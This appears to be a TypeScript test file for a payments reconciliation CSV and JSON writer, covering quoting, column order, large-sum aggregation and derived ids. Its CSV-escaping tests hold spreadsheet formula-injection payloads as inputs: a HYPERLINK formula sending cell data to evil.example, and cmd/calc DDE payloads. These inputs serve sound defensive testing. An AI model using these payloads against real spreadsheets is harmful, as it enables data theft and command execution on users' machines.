// The reconciliation file's writer: quoting, separator, line ends, the spec's column order; and
// the ids the reports derive (short ids, aggregation ids).
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvValue, toCsv } from '../../server/reports/csv.ts';
import { aggregate, aggregationId, aggregationJson, CSV_HEADER, decodeAggregationId, recordJson, recordsCsv, sortRecords } from '../../server/reports/reconciliation.ts';
import { recordOf } from '../../server/reports/settlement.ts';
import { idRangeOf, shortIdOf } from '../../server/reports/shortId.ts';
import type { PaymentRecord } from '../../server/store/payments.ts';
import { paymentRecord } from '../support/records.ts';

const ENTITY = { id: '8a8294174b7ecb28014b9699220015ca', name: 'Shop A eCommerce', merchantName: 'Test Shop A' };

function payment(overrides: Partial<PaymentRecord> = {}): PaymentRecord {
  return paymentRecord({
    id: '0123456789abcdef0123456789abcdef',
    entityId: ENTITY.id,
    merchantTransactionId: 'order-0001',
    ndc: 'ndc',
    details: { card: { bin: '420000', last4Digits: '0000', holder: 'Jane Jones' }, descriptor: 'Shop A' },
    acquirer: { connectorDetails: { ConnectorTxID1: 'ABCDEF0123456789' } },
    createdAt: Date.parse('2026-03-10T09:00:00Z'),
    updatedAt: Date.parse('2026-03-10T09:00:00Z'),
    ...overrides,
  });
}

describe('CSV values', () => {
  it('leaves plain values as they are, empty ones empty', () => {
    assert.equal(csvValue('Shop A'), 'Shop A');
    assert.equal(csvValue(''), '');
    assert.equal(csvValue("O'Brien, Jane"), "O'Brien, Jane");
  });

  it('writes text a spreadsheet would run as a formula after an apostrophe; numbers stay numbers', () => {
    assert.equal(csvValue('=HYPERLINK("https://evil.example/?"&A2,"Click")'), '"\'=HYPERLINK(""https://evil.example/?""&A2,""Click"")"');
    assert.equal(csvValue("@SUM(1+1)*cmd|'/C calc'!A0"), "'@SUM(1+1)*cmd|'/C calc'!A0");
    assert.equal(csvValue('+1+2'), "'+1+2");
    assert.equal(csvValue('-Jane'), "'-Jane");
    assert.equal(csvValue('\tx'), "'\tx");
    for (const number of ['-12.50', '+3', '100.20', '-7']) assert.equal(csvValue(number), number);
  });

  it('also neutralizes a formula that starts after a comma, a tab or a line break inside a value (a spreadsheet splitting on those)', () => {
    // A shopper's bank account holder (any characters) read by a spreadsheet whose list separator
    // is the comma: the file's ';' is then no separator, a comma is, and quotes in mid-cell are text.
    assert.equal(csvValue("Jane,=cmd|' /C calc'!A0,"), "Jane,'=cmd|' /C calc'!A0,");
    assert.equal(csvValue('Jane, @SUM(1+1)'), "Jane,' @SUM(1+1)");
    assert.equal(csvValue('Jane\t+1+2'), "Jane\t'+1+2");
    assert.equal(csvValue('Jane\n=1+1,'), '"Jane\n\'=1+1,"');
    assert.equal(csvValue('Jane,"=1+1"'), '"Jane,\'""=1+1"""');
    // Numbers and ordinary text after a comma stay as they are.
    assert.equal(csvValue('Sale 10,-5'), 'Sale 10,-5');
    assert.equal(csvValue("O'Brien, Jane-Marie"), "O'Brien, Jane-Marie");
  });

  it('leaves no cell that starts a formula when a line of the file is split on commas, tabs or line breaks', () => {
    const holder = "Jane,=cmd|' /C calc'!A0,";
    const shopper = payment({ method: 'DD', details: { bankAccount: { holder, iban: 'DE89370400440532013000' }, descriptor: 'x\n@SUM(1)' } });
    const csv = recordsCsv([recordOf(shopper, ENTITY, undefined)]);
    const cells = csv.split(/[,\t\r\n]/);
    assert.deepEqual(cells.filter((cell) => /^[\s"]*[=+\-@]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell)), []);
  });

  it('quotes a value holding the separator ;', () => {
    assert.equal(csvValue('a;b'), '"a;b"');
  });

  it('quotes a value holding a double quote and doubles the quote', () => {
    assert.equal(csvValue('say "hi"'), '"say ""hi"""');
    assert.equal(csvValue('"'), '""""');
  });

  it('quotes a value holding a line feed or a carriage return', () => {
    assert.equal(csvValue('line 1\nline 2'), '"line 1\nline 2"');
    assert.equal(csvValue('line 1\r\nline 2'), '"line 1\r\nline 2"');
    assert.equal(csvValue('a\rb'), '"a\rb"');
  });

  it('writes the header, then each row, separated by ; and ended by CRLF', () => {
    assert.equal(toCsv(['A', 'B'], [['1', 'x;y'], ['', '2']]), 'A;B\r\n1;"x;y"\r\n;2\r\n');
    assert.equal(toCsv(['A'], []), 'A\r\n');
  });
});

describe('reconciliation file', () => {
  it('has the spec\u2019s 36 columns in the spec\u2019s order, its spelling kept (ClearingInsitituteName)', () => {
    assert.deepEqual(CSV_HEADER, [
      'ReconciliationType', 'PaymentType', 'Cashflow', 'ClearingInstituteMerchantId', 'MerchantAccountId', 'MerchantAccountName', 'PspId', 'DivisionId', 'MerchantId',
      'SettlementTxId', 'UniqueID', 'ShortId', 'ConnectorTxId1', 'ConnectorTxId2', 'ConnectorTxId3', 'Amount', 'Currency', 'Brand', 'TxRequestTime', 'SettlementAmount',
      'SettlementCurrency', 'SettlementFee', 'SettlementFxRate', 'SettlementDate', 'SettlementStatus', 'Descriptor', 'AccountNumberLast4', 'BankCode', 'AccountHolder',
      'ReasonCode', 'ReasonDesc', 'SettlementFileFormat', 'ClearingInsitituteName', 'MatchingStatus', 'MatchedTransactions', 'ChargebackId',
    ]);
  });

  it('writes amounts with two decimals and one value per column on every line', () => {
    const csv = recordsCsv([recordOf(payment({ amountMinor: 5 }), ENTITY, undefined), recordOf(payment({ amountMinor: 100000 }), ENTITY, undefined)]);
    const lines = csv.split('\r\n');
    const amount = CSV_HEADER.indexOf('Amount');
    const fee = CSV_HEADER.indexOf('SettlementFee');
    assert.equal(lines[1]!.split(';')[amount], '0.05');
    assert.equal(lines[1]!.split(';')[fee], '0.25');
    assert.equal(lines[2]!.split(';')[amount], '1000.00');
    for (const line of lines.slice(1, -1)) assert.equal(line.split(';').length, 36);
  });

  it('quotes a merchant\u2019s descriptor or holder holding ; " or a line break, so the line keeps its 36 columns', () => {
    const tricky = payment({ details: { card: { last4Digits: '0000', holder: 'Jane "JJ" Jones' }, descriptor: 'a;b\nc' } });
    const line = recordsCsv([recordOf(tricky, ENTITY, undefined)]).split('\r\n')[1]!;
    assert.ok(line.includes(';"a;b\nc";'));
    assert.ok(line.includes(';"Jane ""JJ"" Jones";'));
  });

  it('names the account by its kind in JSON (card.* or bankAccount.*) and leaves empty fields out', () => {
    const bank = recordJson(recordOf(payment({ method: 'DD', details: { bankAccount: { holder: 'Max', iban: 'DE89370400440532013000', bankCode: '37040044' } } }), ENTITY, undefined));
    assert.deepEqual(bank.bankAccount, { last4Digits: '3000', bankCode: '37040044', holder: 'Max' });
    assert.equal(bank.card, undefined);
    assert.equal(bank.divisionEntityId, undefined);
    assert.equal(bank.result, undefined);
  });

  it('sorts by the payment\u2019s time, a settlement before its chargeback; DESC is the exact reverse', () => {
    const early = payment({ id: 'f'.repeat(32), createdAt: 1000 });
    const late = payment({ id: '0'.repeat(32), createdAt: 2000, amountMinor: 10020 });
    const records = [recordOf(late, ENTITY, undefined, '000.100.220'), recordOf(late, ENTITY, undefined), recordOf(early, ENTITY, undefined)];
    const asc = sortRecords(records, 'ASC').map((r) => `${r.recordType}:${r.paymentId[0]}`);
    assert.deepEqual(asc, ['SETTLED:f', 'SETTLED:0', 'CHARGEBACK:0']);
    assert.deepEqual(sortRecords(records, 'DESC').map((r) => `${r.recordType}:${r.paymentId[0]}`), [...asc].reverse());
  });
});

describe('aggregations', () => {
  it('sums POS, NEG and fees per date and currency in minor units; the net may be negative', () => {
    const refund = recordOf(payment({ paymentType: 'RF', amountMinor: 5000 }), ENTITY, undefined);
    const debit = recordOf(payment({ amountMinor: 1000 }), ENTITY, undefined);
    const [a] = aggregate(ENTITY.id, [refund, debit], 'ASC');
    assert.equal(a!.positiveMinor, 1000n);
    assert.equal(a!.negativeMinor, 5000n);
    assert.equal(a!.feeMinor, 120n + 44n);
    assert.equal(a!.netMinor, 1000n - 5000n - 164n);
    assert.equal(aggregationJson(a!).netAmount, '-41.64');
  });

  it('sums a day past 2^53 minor units exactly, as decimal strings (9,010 debits of 9999999999.99 USD)', () => {
    const debit = recordOf(payment({ amountMinor: 999_999_999_999, currency: 'USD' }), ENTITY, undefined);
    const refund = recordOf(payment({ paymentType: 'RF', amountMinor: 1, currency: 'USD' }), ENTITY, undefined);
    const [a] = aggregate(ENTITY.id, [...Array<typeof debit>(9010).fill(debit), refund], 'ASC');
    const json = aggregationJson(a!);
    // 9,010 × 999,999,999,999 = 9,009,999,999,990,990 > 2^53 = 9,007,199,254,740,992.
    assert.equal(json.totalPositiveAmount, '90099999999909.90');
    assert.equal(json.totalNegativeAmount, '0.01');
    // Each debit's fee 190,000,000.25 (19,000,000,025 minor), the refund's 0.25.
    assert.equal(json.totalFee, '1711900002252.75');
    assert.equal(json.netAmount, '88388099997657.14');
  });

  it('sums whole-currency amounts (stored in hundredths) past 2^53 exactly: 9,010 × 9999999999 JPY', () => {
    const debit = recordOf(payment({ amountMinor: 999_999_999_900, currency: 'JPY' }), ENTITY, undefined);
    const [a] = aggregate(ENTITY.id, Array<typeof debit>(9010).fill(debit), 'ASC');
    assert.equal(aggregationJson(a!).totalPositiveAmount, '90099999990990.00');
  });

  it('derives an id that names the date and currency for its entity only', () => {
    const id = aggregationId(ENTITY.id, '2026-03-11', 'EUR');
    assert.match(id, /^[0-9a-f]{32}$/);
    assert.deepEqual(decodeAggregationId(ENTITY.id, id), { date: '2026-03-11', currency: 'EUR' });
    assert.equal(decodeAggregationId('8a8294174b7ecb28014b9699220015cc', id), undefined);
    assert.equal(decodeAggregationId(ENTITY.id, id.replace(/.$/, (c) => (c === '0' ? '1' : '0'))), undefined);
    assert.equal(decodeAggregationId(ENTITY.id, 'nonsense'), undefined);
  });
});

describe('short ids', () => {
  it('are dddd.dddd.dddd (AN14), the same for the same id', () => {
    const id = 'fedcba9876543210fedcba9876543210';
    assert.match(shortIdOf(id), /^\d{4}\.\d{4}\.\d{4}$/);
    assert.equal(shortIdOf(id), shortIdOf(id));
    assert.equal(shortIdOf('0'.repeat(32)), '0000.0000.0000');
    assert.equal(shortIdOf('f'.repeat(32)), '5497.5581.3887');
  });

  it('name a range of ids that holds the id, and no id outside it has the short id', () => {
    for (const id of ['0'.repeat(32), 'f'.repeat(32), '57aca17673351cb8b384750a3fcb6042', '3fbd0a3fa65b7666940d16162a2525bf']) {
      const range = idRangeOf(shortIdOf(id))!;
      assert.ok(range.from <= id && id <= range.to, id);
      assert.equal(shortIdOf(range.from), shortIdOf(id));
      assert.equal(shortIdOf(range.to), shortIdOf(id));
      const next = (BigInt(`0x${range.to}`) + 1n).toString(16).padStart(32, '0');
      if (next.length === 32) assert.notEqual(shortIdOf(next), shortIdOf(id));
    }
  });

  it('no range for what is not a short id of a payment', () => {
    assert.equal(idRangeOf('abc'), undefined);
    assert.equal(idRangeOf('5497.5581.3888'), undefined);
    assert.equal(idRangeOf('123456789012'), undefined);
  });
});
